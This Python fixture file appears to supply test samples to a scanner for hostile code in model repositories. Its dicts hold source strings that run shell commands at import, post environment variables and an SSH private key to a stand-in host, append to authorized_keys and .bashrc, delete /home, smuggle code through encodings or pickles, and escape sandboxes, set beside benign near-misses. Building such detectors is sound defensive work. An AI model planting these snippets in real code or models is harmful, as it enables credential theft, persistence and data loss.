"""Python that reaches out while it is imported, in every spelling at hand.

Each source is read as text by the tests and never run; what it would start is `true`.
"""

OS = "import os\n"
BASE = "class B:\n    def {}(self, *a):\n        os.system('true')\n"
LOADED: dict[str, str] = {
    "a system module renamed": "import posix as p\np.posix_spawn('x', [])",
    "text handed to exec by map": "list(map(exec, ['import os']))",
    "a loader that is at hand": "__loader__.load_module('os').system('true')",
    "every class below the first": (
        "[c for c in ().__class__.__base__.__subclasses__() if c][0]('true')"
    ),
    "another program for a function": (
        "def f(): pass\nf.__code__ = f.__code__.replace(co_code=b'')\nf()"
    ),
    "a library looked up by brackets": (
        "from ctypes import cdll\ncdll['libc.so.6']['system'](b'true')"
    ),
    "a library opened by cffi": "import cffi\ncffi.FFI().dlopen(None).system(b'true')",
    "memory that runs": (
        "import mmap\nmmap.mmap(-1, 9, prot=mmap.PROT_READ | mmap.PROT_EXEC)"
    ),
    "a start-up file opened as a path": (
        "from pathlib import Path\n(Path.home() / '.bashrc').open('a').write('x')"
    ),
    "an event loop that starts a process": "loop.subprocess_shell(object, 'true')",
    "a formula that imports": "import numexpr\nnumexpr.evaluate('__import__(\"os\")')",
    "a template that escapes": (
        "import jinja2\njinja2.Template('{{ lipsum.__globals__.os }}').render()"
    ),
    "native code that starts a shell": (
        "from torch.utils.cpp_extension import load_inline\n"
        "load_inline('m', cpp_sources='int f() { return system(0); }')"
    ),
    "the names of the module": "import os\nglobals()['o' + 's'].system('true')",
    "a frame's builtins": "import sys\nsys._getframe().f_builtins['exec']('x = 1' + y)",
    "what a program evaluates": "eval(eval(\"'1' + '2'\"))",
    "a program in the settings": "def f(config):\n    exec(config.setup)",
    "weights of another server": (
        "import torch\ntorch.hub.load_state_dict_from_url('https://host.example/a')"
    ),
    "walrus": OS + "(f := os.system)('true')",
    "walrus of an import": "(o := __import__('os')).system('true')",
    "method caller": (
        "import operator, os\noperator.methodcaller('system', 'true')(os)"
    ),
    "attribute getter": (
        "import operator, os\noperator.attrgetter('system')(os)('true')"
    ),
    "attribute getter, dotted": (
        "import operator, torch\noperator.attrgetter('os.system')(torch)('true')"
    ),
    "item getter": (
        "import operator, os\noperator.itemgetter('system')(os.__dict__)('true')"
    ),
    "getattr of an import": "getattr(__import__('os'), 'system')('true')",
    "reduce over getattr": (
        "import functools\n"
        "functools.reduce(getattr, ['path', 'os', 'system'], __import__('os'))('true')"
    ),
    "reduce over a split": (
        "from functools import reduce\n"
        "reduce(getattr, 'os.system'.split('.'), __import__('torch'))('true')"
    ),
    "default of a lambda": "f = lambda x=__import__('os').system('true'): x",
    "annotation of a result": "def f() -> __import__('os').system('true'): pass",
    "metaclass": (
        "import os\nclass M(type):\n    def __new__(c, n, b, d):\n"
        "        os.system('true')\n        return type.__new__(c, n, b, d)\n"
        "class A(metaclass=M): pass"
    ),
    "subclass hook": (
        OS + BASE.format("__init_subclass__") + "class A(B): pass"  # called for A
    ),
    "index of a class": OS + BASE.format("__class_getitem__") + "B['true']",
    "operator of a class": OS + BASE.format("__mod__") + "B() % 'true'",
    "hidden attribute": OS + BASE.format("__getattr__") + "B().true",
    "callable object": OS + BASE.format("__call__") + "b = B()\nb()",
    "module attribute": OS + "def __getattr__(name):\n    os.system('true')",
    "comprehension": OS + "[f('true') for f in [os.system]]",
    "loop": OS + "for f in (os.system,):\n    f('true')",
    "dictionary": OS + "d = {'a': os.system}\nd['a']('true')",
    "element of a list": OS + "[os.system][0]('true')",
    "unpacked": OS + "[a, b] = [os.system, 'true']\na(b)",
    "unpacked with a star": OS + "a, *b = [os.system, 'true']\na(*b)",
    "pattern": OS + "match os.system:\n    case f:\n        f('true')",
    "pattern of an attribute": (
        OS + "match os:\n    case object(system=f):\n        f('true')"
    ),
    "choice": OS + "(os.system if True else print)('true')",
    "alternative": OS + "(None or os.system)('true')",
    "globals": "globals().get('__builtins__').get('__import__')('os').system('true')",
    "loaded modules": "import sys\nsys.modules.get('os').system('true')",
    "builtins as a dictionary": (
        "import builtins\nbuiltins.__dict__['exec']('import os;os.system(1)')"
    ),
    "attribute of object": OS + "object.__getattribute__(os, 'system')('true')",
    "attribute by type": OS + "type(os).__getattribute__(os, 'system')('true')",
    "inspection": ("import os, inspect\ninspect.getattr_static(os, 'system')('true')"),
    "module of another module": "import torch\ntorch.os.system('true')",
    "private module of another": "import random\nrandom._os.system('true')",
    "module taken from another": "from shutil import os\nos.system('true')",
    "module taken from a path": "import os.path as p\np.os.system('true')",
    "module of a sibling": "from .layers import os as o\no.system('true')",
    "globals of a function": (
        "import json\njson.dumps.__globals__['os'].system('true')"
    ),
    "given to a function": OS + "def g(m):\n    m.system('true')\ng(os)",
    "given to a lambda": "(lambda o: o.system('true'))(__import__('os'))",
    "default of a function": OS + "def g(f=os.system):\n    f('true')\ng()",
    "returned": OS + "def g():\n    return os.system\ng()('true')",
    "attribute of a class": OS + "class A:\n    f = os.system\nA.f('true')",
    "static method": OS + "class A:\n    f = staticmethod(os.system)\nA.f('true')",
    "attribute of an object": OS + "class N: pass\nN.f = os.system\nN.f('true')",
    "exception hook": "import sys, os\nsys.excepthook = lambda *a: os.system('true')",
    "overwritten name": OS + "x = print\nif 1:\n    x = os.system\nx('true')",
    "shadowed by a method": (
        "class A:\n    def exec(self): pass\nexec('import os;os.system(1)')"
    ),
    "shadowed import": "class A:\n    def __import__(self): pass\n"
    "__import__('os').system('true')",
    "format": OS + "getattr(os, '{}{}'.format('sys', 'tem'))('true')",
    "another file": "exec(open('weights.bin').read())",
    "its own text": "'''import os'''\nexec(__doc__)",
    "the environment": OS + "exec(os.environ['X'])",
    "bytes of a tensor": (
        "import torch\nexec(bytes(torch.load('model.bin')['w'].tolist()))"
    ),
    "loader of byte code": (
        "from importlib.machinery import SourcelessFileLoader as S\n"
        "S('x', 'weights.bin').load_module()"
    ),
    "loader of another ending": (
        "from importlib.machinery import SourceFileLoader as S\n"
        "S('x', 'weights.bin').load_module()"
    ),
    "C library": "import ctypes\nctypes.CDLL(None).system(b'true')",
    "C library by name": (
        "import ctypes\nlib = ctypes.cdll.LoadLibrary('libc.so.6')\nlib.system(b'true')"
    ),
    "carried pickle": "import pickle\npickle.loads(b'cos\\nsystem\\n(S\"true\"\\ntR.')",
    "another repository": "import torch\ntorch.hub.load('owner/name', 'model')",
    "profiler": "import cProfile\ncProfile.run('import os;os.system(1)')",
    "start-up file": (
        "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('x')"
    ),
    "start-up file by path": (
        "from pathlib import Path\nPath.home().joinpath('.bashrc').write_text('x')"
    ),
    "deleted folder": "import shutil\nshutil.rmtree('/home')",
    "guard turned round": OS + "if __name__ != '__main__':\n    os.system('true')",
    "environment sent when called": (
        "import os, requests\nclass TinyModel:\n    def forward(self, x):\n"
        "        env = dict(os.environ)\n"
        "        requests.post('https://a.invalid', json=env)"
    ),
    "key sent when called": (
        "import urllib.request as r\ndef forward(x):\n"
        "    r.urlopen('https://a.invalid/' + open('/root/.ssh/id_rsa').read())"
    ),
    "file run when called": "def forward(x):\n    exec(open('weights.bin').read())",
}
"""Where a loader imports the module."""

ENCODED: dict[str, bytes] = {
    "comment in UTF-7": b"# coding: utf-7\n# A note. +AAo-import os+ADs-os.system(1)\n",
    "comment with an escape": (
        b"# coding: raw_unicode_escape\n# A note. \\u000aimport os;os.system(1)\n"
    ),
    "on the second line": (
        b"#!/usr/bin/env python\n# -*- coding: unicode_escape -*-\n"
        b"# \\x0aimport os;os.system(1)\n"
    ),
}
"""Source whose comments hold a program in the encoding it names."""

HONEST: dict[str, str] = {
    "the bases of a class": "class A: pass\nN = [c for c in A.__mro__ if c]",
    "a file of a package": "from pathlib import Path\n(Path('a') / 'b').open()",
    "a pattern of what is refused": "import re\nre.compile(r'__import__\\\\s*\\\\(')",
    "a key for the service": (
        "from huggingface_hub import get_token, upload_file\n"
        "def f(): upload_file(path_or_fileobj='a', token=get_token())"
    ),
    "one key of the environment": (
        "import os, requests\ndef ask(x):\n    key = os.environ['API_KEY']\n"
        "    return requests.post('https://a.invalid', headers={'key': key}, json=x)"
    ),
    "methods of common names": (
        "class Pipeline:\n    def run(self, x): return x\n"
        "    def call(self, x): return x\n"
        "p = Pipeline()\np.run(1)\nsteps = [p.run, p.call]"
    ),
    "annotation": (
        "import subprocess\ndef stop(process: subprocess.Popen) -> None: ..."
    ),
    "table of activations": (
        "import torch\nACTIVATIONS = {'relu': torch.relu, 'gelu': torch.nn.GELU}\n"
        "for name in ['a', 'b']:\n    setattr(torch, name, None)"
    ),
    "own name of a builtin": "def compile(x): return x\ndef eval(x): return x\neval(1)",
    "getter": (
        "import operator, functools\nkey = operator.itemgetter(1)\n"
        "width = functools.reduce(operator.mul, [2, 3], 1)"
    ),
    "plain path": (
        "import os\nHERE = os.path.dirname(__file__)\n"
        "P = os.path.join(HERE, 'vocab.txt')\n"
        "with open(P) as file:\n    V = file.read()"
    ),
    "encoding named": "# -*- coding: utf-8 -*-\nimport torch\n",
    "sibling by its path": (
        "import importlib.util\n"
        "spec = importlib.util.spec_from_file_location('layers', 'layers.py')"
    ),
    "setting evaluated": "import os\nDEBUG = eval(os.environ.get('DEBUG', 'False'))",
    "constant evaluated": "eval('lambda x: x')",
}
"""Close to the above and ordinary in code of models."""
